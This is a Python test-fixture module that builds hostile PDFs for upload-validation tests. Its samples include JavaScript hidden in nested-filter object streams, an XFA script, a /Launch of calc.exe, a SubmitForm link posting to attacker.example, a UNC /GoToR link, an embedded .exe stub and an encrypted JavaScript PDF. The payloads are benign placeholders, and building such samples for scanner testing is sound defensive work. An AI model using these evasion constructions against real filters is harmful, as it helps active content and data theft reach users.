"""PDFs that try to act on the reader's computer, made by hand or with pikepdf, for the upload
tests: scripts hidden in nested filters and object streams, XFA forms with scripts, actions that
leave the document, embedded files and media, and one encrypted with an empty password."""

from __future__ import annotations

import base64
import io
import zlib

import pikepdf

PAGE_TEXT = b"BT /F1 12 Tf 72 720 Td (Referral order) Tj ET"


def handmade(*objects: bytes, root: int = 1) -> bytes:
    """Objects numbered from 1 with a real cross-reference table, so readers take it as it is."""
    body = b"%PDF-1.7\n"
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return body + b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


FONT = b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " + FONT + b" >>"
CONTENT = _stream(PAGE_TEXT)


def plain() -> bytes:
    return handmade(CATALOG, PAGES, PAGE, CONTENT)


def _object_stream(objects: bytes, filters: list[str]) -> bytes:
    """An object stream holding "5 0 <<...>>", encoded through the filters (outermost last)."""
    data = objects
    for name in reversed(filters):
        data = zlib.compress(data) if name == "FlateDecode" else (
            data.hex().encode() + b">" if name == "ASCIIHexDecode" else base64.a85encode(data) + b"~>")
    chain = b"[" + b" ".join(b"/" + f.encode() for f in filters) + b"]"
    return _stream(data, b"/Type /ObjStm /N 1 /First 4 /Filter " + chain)


def _catalog_with(entry: bytes) -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + entry + b" >>"


HOSTILE: dict[str, bytes] = {}


def _hostile(name: str):
    def register(make):
        HOSTILE[name] = make()
        return make
    return register


@_hostile("JavaScript in a twice-compressed object stream")
def _twice_flated() -> bytes:
    hidden = b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"
    return handmade(_catalog_with(b"/OpenAction 5 0 R"), PAGES, PAGE, CONTENT,
                    _object_stream(hidden, ["FlateDecode", "FlateDecode"]))


@_hostile("JavaScript in an object stream under ASCII85 and Flate")
def _ascii85_flated() -> bytes:
    hidden = b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"
    return handmade(CATALOG, PAGES, PAGE, CONTENT, _object_stream(hidden, ["ASCII85Decode", "FlateDecode"]))


@_hostile("XFA form with a script")
def _xfa() -> bytes:
    xfa = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
           b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform></template>'
           b'</xdp:xdp>')
    return handmade(_catalog_with(b"/AcroForm << /Fields [] /XFA 5 0 R >>"), PAGES, PAGE, CONTENT,
                    _stream(zlib.compress(xfa), b"/Filter /FlateDecode"))


@_hostile("page action on open (/AA)")
def _page_action() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " + FONT + b" /AA << /O 5 0 R >> >>"
    return handmade(CATALOG, PAGES, page, CONTENT, b"<< /S /Launch /F (calc.exe) >>")


@_hostile("link that submits a form (/SubmitForm)")
def _submit() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " + FONT + b" /Annots [5 0 R] >>"
    return handmade(CATALOG, PAGES, page, CONTENT, b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << "
                    b"/S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >> >>")


@_hostile("link to another file (/GoToR)")
def _gotor() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " + FONT + b" /Annots [5 0 R] >>"
    return handmade(CATALOG, PAGES, page, CONTENT,
                    b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) "
                    b"/D [0 /Fit] >> >>")


@_hostile("jump into an embedded file (/GoToE)")
def _gotoe() -> bytes:
    return handmade(_catalog_with(b"/OpenAction << /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>"), PAGES, PAGE,
                    CONTENT)


@_hostile("form data import (/ImportData)")
def _import_data() -> bytes:
    return handmade(_catalog_with(b"/OpenAction << /S /ImportData /F (data.fdf) >>"), PAGES, PAGE, CONTENT)


@_hostile("rich media annotation (/RichMedia)")
def _rich_media() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " + FONT + b" /Annots [5 0 R] >>"
    return handmade(CATALOG, PAGES, page, CONTENT, b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>")


@_hostile("embedded file (/EmbeddedFiles)")
def _embedded() -> bytes:
    return handmade(_catalog_with(b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>"), PAGES, PAGE,
                    CONTENT, b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                    _stream(b"MZ", b"/Type /EmbeddedFile"))


@_hostile("JavaScript in an encrypted PDF (empty password)")
def _encrypted() -> bytes:
    pdf = pikepdf.open(io.BytesIO(plain()))
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="o", user="", aes=True),
             object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


@_hostile("JavaScript in a name tree, saved in qpdf object streams")
def _names_javascript() -> bytes:
    pdf = pikepdf.open(io.BytesIO(plain()))
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", action])))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


@_hostile("a stream under a filter that cannot be checked")
def _unknown_filter() -> bytes:
    return handmade(CATALOG, PAGES, PAGE, _stream(b"????", b"/Filter /Crypt"))
